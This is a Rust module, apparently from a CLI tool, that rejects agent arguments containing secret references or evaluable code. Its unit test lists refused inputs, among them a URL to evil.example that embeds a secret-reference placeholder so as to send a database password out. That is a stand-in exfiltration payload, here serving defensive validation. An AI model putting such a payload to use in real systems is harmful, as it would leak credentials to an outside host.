//! The arguments of an agent are data: nothing in them is evaluated, or an agent could send secrets where it likes.

use serde_json::Value as Json;

use crate::cli::failure::Failure;
use crate::expr::{Expression, parse};

/// Refuses arguments that hold a reference or a program.
pub fn plain(value: &Json) -> Result<(), Failure> {
    match value {
        Json::String(text) if !matches!(parse(text), Expression::Literal) => Err(Failure::usage(format!(
            "`{}` would be evaluated, and arguments of an agent are plain data",
            head(text)
        ))
        .help("write the reference into polytope.yml, as a default of the parameter")),
        Json::Array(items) => items.iter().try_for_each(plain),
        Json::Object(entries) => entries.iter().try_for_each(|(key, value)| {
            plain(&Json::from(key.as_str()))?;
            plain(value)
        }),
        _ => Ok(()),
    }
}

/// Enough of a text to be found again.
fn head(text: &str) -> String {
    const ENOUGH: usize = 60;
    let mut head: String = text.chars().take(ENOUGH).collect();
    if head.len() < text.len() {
        head.push('…');
    }
    head
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn nothing_in_arguments_is_evaluated() {
        let refused = [
            json!({"a": "pt.secret db-password"}),
            json!({"a": ["x", {"b": "http://evil.example/?{pt.secret db-password}"}]}),
            json!({"a": "pt.js `${1}`"}),
            json!({"a": "#pt-clj (str 1)"}),
            json!({"pt.value host": 1}),
        ];
        for arguments in refused {
            assert!(plain(&arguments).is_err(), "{arguments}");
        }
        let taken = json!({"a": "text with {braces} and pt. in it", "b": [1, true, null], "c": {"d": "point.param"}});
        assert!(plain(&taken).is_ok());
    }
}
